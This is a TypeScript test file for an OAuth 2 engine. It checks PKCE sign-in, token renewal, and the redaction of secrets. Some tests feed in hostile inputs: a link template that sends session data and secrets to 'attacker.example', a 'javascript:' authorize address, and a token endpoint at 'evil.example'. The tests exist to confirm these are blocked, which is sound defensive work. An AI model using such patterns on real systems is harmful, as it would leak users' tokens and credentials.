import { describe, expect, it } from 'vitest';
import { engine } from '../../../utils/recipes/engine.ts';
import type { EngineContext, SignIn, TokenStore } from '../../../utils/recipes/interface.ts';
import { type Answering, answering, connection, contextWith, job, recorded, small } from './support.ts';

const redirect = 'https://relais.example/';

function oauth(grant: string, more: Record<string, unknown> = {}) {
  return small({
    origins: ['https://login.example.org'],
    auth: [
      {
        kind: 'oauth2',
        grant,
        authorize: 'https://login.example.org/authorize',
        token: 'https://login.example.org/token',
        client: { id: 'relais', secret: '{{ secrets.token }}' },
        scopes: ['read', 'write'],
        ...more,
      },
    ],
  });
}

/** A desk that takes the newest token only, and hands out numbered ones. */
function desk({ expiresIn = 3_600 }: { readonly expiresIn?: number } = {}) {
  let given = 0;
  const asked: URLSearchParams[] = [];
  const answer: Answering = ({ path, body, headers }) => {
    if (path === '/token') {
      asked.push(new URLSearchParams(body as string));
      given += 1;
      return { body: { access_token: `access-${given}`, refresh_token: `refresh-${given}`, expires_in: expiresIn } };
    }
    return headers?.authorization === `Bearer access-${given}`
      ? { status: 201, body: { id: '7', name: 'Ana' } }
      : { status: 401, body: {} };
  };
  const wire = answering(answer);
  const revoke = (): void => {
    given += 1;
  };
  return { ...wire, tokens: asked, revoke };
}

function store(): TokenStore & { text: string | undefined } {
  const kept: TokenStore & { text: string | undefined } = {
    text: undefined,
    read: async () => kept.text,
    async update(change) {
      kept.text = await change(kept.text);
      return kept.text;
    },
  };
  return kept;
}

/** A person who says yes, or something else. */
function person(say: (asked: URLSearchParams) => Record<string, string>): SignIn & { readonly seen: URL[] } {
  const seen: URL[] = [];
  return {
    redirect,
    seen,
    async open(url) {
      seen.push(new URL(url));
      return `${redirect}?${new URLSearchParams(say(new URL(url).searchParams)).toString()}`;
    },
  };
}
const yes = person((asked) => ({ code: 'c0de', state: asked.get('state') ?? '' }));

describe('OAuth 2', () => {
  it('signs a person in with a proof that only this browser has, and keeps the tokens', async () => {
    const { http, tokens } = desk();
    const kept = store();
    const connected = connection(oauth('code-pkce', { ask: { prompt: 'consent' } }), { tokens: kept });
    const context: EngineContext = { ...contextWith(http), signIn: yes };
    expect(await engine.test(connected, context)).toMatchObject({ identity: 'Ana' });
    const page = yes.seen.at(-1)?.searchParams;
    expect(Object.fromEntries(page ?? [])).toMatchObject({
      response_type: 'code',
      client_id: 'relais',
      redirect_uri: redirect,
      scope: 'read write',
      prompt: 'consent',
      code_challenge_method: 'S256',
    });
    expect(page?.has('client_secret')).toBe(false);
    const verifier = tokens[0]?.get('code_verifier') ?? '';
    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier));
    expect(Buffer.from(hash).toString('base64url')).toBe(page?.get('code_challenge'));
    expect(Object.fromEntries(tokens[0] ?? [])).toMatchObject({
      grant_type: 'authorization_code',
      code: 'c0de',
      redirect_uri: redirect,
      client_secret: 's3cret-token',
    });
    // Later nobody sits in front, and nobody needs to.
    expect(await engine.deliver(job({ connection: connected }), contextWith(http), recorded())).toMatchObject({ ticketId: '7' });
    expect(tokens).toHaveLength(1);
  });

  it.each<[string, (asked: URLSearchParams) => Record<string, string>]>([
    ['a no', (asked) => ({ error: 'access_denied', state: asked.get('state') ?? '' })],
    ['an answer to somebody else’s question', () => ({ code: 'c0de', state: 'other' })],
  ])('takes no code from %s', async (_, say) => {
    const { http, tokens } = desk();
    const context: EngineContext = { ...contextWith(http), signIn: person(say) };
    await expect(engine.test(connection(oauth('code-pkce'), { tokens: store() }), context)).rejects.toMatchObject({ code: 'unauthorised' });
    expect(tokens).toHaveLength(0);
  });

  it.each([
    ['in its parameters', { ask: { hint: '{{ secrets.token }}' } }],
    ['in its address', { authorize: 'https://elsewhere.example/{{ secrets.token }}' }],
    ['as the client', { client: { id: '{{ secrets.token }}' } }],
  ])('tells the page for signing in, which may lie anywhere, no secret: %s', async (_, more) => {
    const curious = person(() => ({}));
    const context: EngineContext = { ...contextWith(desk().http), signIn: curious };
    await expect(engine.test(connection(oauth('code-pkce', more), { tokens: store() }), context)).rejects.toMatchObject({
      code: 'unauthorised',
    });
    expect(curious.seen).toHaveLength(1);
    expect(String(curious.seen)).not.toContain('s3cret');
  });

  it.each(['code-pkce', 'client-credentials'])('lets no link that a person may click hold a token: %s', async (grant) => {
    const { http } = desk();
    const step = {
      id: 'create',
      as: 'create',
      method: 'POST',
      path: '/tickets',
      out: { ticketId: 'id', url: "'https://attacker.example/?' & $string($session) & $string($secrets)" },
    };
    const connected = connection({ ...oauth(grant), create: [step] }, { tokens: store() });
    const receipt = await engine.deliver(job({ connection: connected }), { ...contextWith(http), signIn: yes }, recorded());
    expect(receipt.url).toMatch(/^https:\/\/attacker\.example\//);
    expect(receipt.url).not.toMatch(/access-|s3cret/);
  });

  it('opens no address that is a script', async () => {
    const curious = person(() => ({}));
    const context: EngineContext = { ...contextWith(desk().http), signIn: curious };
    const connected = connection(oauth('code-pkce', { authorize: 'javascript:alert(1)' }), { tokens: store() });
    await expect(engine.test(connected, context)).rejects.toMatchObject({ code: 'bad-recipe' });
    expect(curious.seen).toEqual([]);
  });

  it('waits for the person where nobody has signed in', async () => {
    const { http, asked } = desk();
    await expect(
      engine.deliver(job({ connection: connection(oauth('code-pkce'), { tokens: store() }) }), contextWith(http), recorded()),
    ).rejects.toMatchObject({ code: 'unauthorised' });
    expect(asked).toHaveLength(0);
  });

  it('renews a token that ends, or that is refused, with the newest refresh token', async () => {
    const { http, tokens, revoke } = desk();
    const kept = store();
    const connected = connection(oauth('code-pkce'), { tokens: kept });
    const context = { ...contextWith(http), signIn: yes };
    await engine.test(connected, context);
    context.clock.now += 3_600_000;
    const later = contextWith(http);
    later.clock.now = context.clock.now;
    await engine.deliver(job({ connection: connected }), later, recorded());
    expect(tokens[1]?.get('grant_type')).toBe('refresh_token');
    expect(tokens[1]?.get('refresh_token')).toBe('refresh-1');
    revoke();
    await engine.deliver(job({ connection: connected }), later, recorded());
    expect(tokens[2]?.get('refresh_token')).toBe('refresh-2');
    expect(tokens).toHaveLength(3);
  });

  it('takes over what another renewed meanwhile, instead of using a refresh token twice', async () => {
    const { http, tokens } = desk();
    const kept = store();
    const connected = connection(oauth('code-pkce'), { tokens: kept });
    const context = { ...contextWith(http), signIn: yes };
    await engine.test(connected, context);
    context.clock.now += 3_600_000;
    const later = () => ({ ...contextWith(http), now: () => context.clock.now });
    let queue: Promise<unknown> = Promise.resolve();
    const oneByOne: TokenStore = {
      read: kept.read,
      update: (change) => {
        const turn = queue.then(() => kept.update(change));
        queue = turn;
        return turn;
      },
    };
    const shared = { ...connected, tokens: oneByOne };
    await Promise.all([1, 2, 3].map(() => engine.deliver(job({ connection: shared }), later(), recorded())));
    expect(tokens).toHaveLength(2);
  });

  it('needs nobody for client credentials, a password or a refresh token that was pasted', async () => {
    for (const [grant, params, type] of [
      ['client-credentials', {}, 'client_credentials'],
      ['password', { username: 'ana', password: '{{ secrets.token }}' }, 'password'],
      ['refresh', { refresh_token: 'pasted' }, 'refresh_token'],
    ] as const) {
      const { http, tokens } = desk();
      await engine.test(connection(oauth(grant, { params }), { tokens: store() }), contextWith(http));
      expect(tokens[0]?.get('grant_type')).toBe(type);
      if (grant === 'refresh') expect(tokens[0]?.get('refresh_token')).toBe('pasted');
    }
  });

  it('asks anew where the refresh token has ended too', async () => {
    for (const [grant, params, then] of [
      ['client-credentials', {}, 'client_credentials'],
      ['password', { username: 'ana', password: '{{ secrets.token }}' }, 'password'],
      ['code-pkce', {}, 'authorization_code'],
      ['refresh', { refresh_token: 'pasted' }, 'refresh_token'],
    ] as const) {
      const { http, tokens } = desk();
      const ended: typeof http = async (request) => {
        const fields = new URLSearchParams(String(request.body ?? ''));
        if (fields.get('refresh_token') !== 'refresh-1') return http(request);
        return { status: 400, headers: { 'content-type': 'application/json' }, redirected: false, body: '{"error":"invalid_grant"}' };
      };
      const connected = connection(oauth(grant, { params }), { tokens: store() });
      const context = { ...contextWith(ended), signIn: yes };
      await engine.test(connected, context);
      context.clock.now += 3_600_000;
      expect(await engine.test(connected, { ...context, now: () => context.clock.now }), grant).toMatchObject({ ok: true });
      expect(tokens[1]?.get('grant_type')).toBe(then);
      expect(tokens[1]?.get('refresh_token') ?? 'pasted').toBe('pasted');
    }
  });

  it('proves the client by Basic where the recipe says so', async () => {
    const { http, asked, tokens } = desk();
    const client = { id: 'a:b', secret: '{{ secrets.token }}', by: 'basic' };
    await engine.test(connection(oauth('client-credentials', { client }), { tokens: store() }), contextWith(http));
    expect(asked[0]?.headers?.authorization).toBe(`Basic ${Buffer.from('a%3Ab:s3cret-token').toString('base64')}`);
    expect(tokens[0]?.has('client_secret')).toBe(false);
  });

  it('uses tokens for nothing but the settings they were given for', async () => {
    const { http, tokens } = desk();
    const kept = store();
    await engine.test(connection(oauth('client-credentials'), { tokens: kept }), contextWith(http));
    const moved = connection(oauth('client-credentials'), { tokens: kept, values: { url: 'https://other.example.org' } });
    await engine.test(moved, contextWith(http));
    expect(tokens).toHaveLength(2);
  });

  it('says what the token address said, and never a token', async () => {
    const refuse = answering(({ path }) =>
      path === '/token' ? { status: 400, body: { error: 'invalid_client', error_description: 'Wrong s3cret-token' } } : {},
    );
    await expect(engine.test(connection(oauth('client-credentials'), { tokens: store() }), contextWith(refuse.http))).rejects.toMatchObject(
      { code: 'unauthorised', details: { said: 'Wrong •••' } },
    );
    const echo = answering(({ path }) =>
      path === '/token' ? { body: { access_token: 'hush-hush' } } : { status: 400, body: { message: 'Bad hush-hush' } },
    );
    await expect(engine.test(connection(oauth('client-credentials'), { tokens: store() }), contextWith(echo.http))).rejects.toMatchObject({
      details: { said: 'Bad •••' },
    });
    const down = answering(() => ({ status: 503 }));
    await expect(engine.test(connection(oauth('client-credentials'), { tokens: store() }), contextWith(down.http))).rejects.toMatchObject({
      code: 'unavailable',
    });
  });

  it('asks for tokens at no address that the recipe does not name', async () => {
    const { http, asked } = desk();
    const elsewhere = connection(oauth('client-credentials', { token: 'https://evil.example/token' }), { tokens: store() });
    await expect(engine.test(elsewhere, contextWith(http))).rejects.toMatchObject({ code: 'bad-recipe' });
    expect(asked).toHaveLength(0);
  });
});
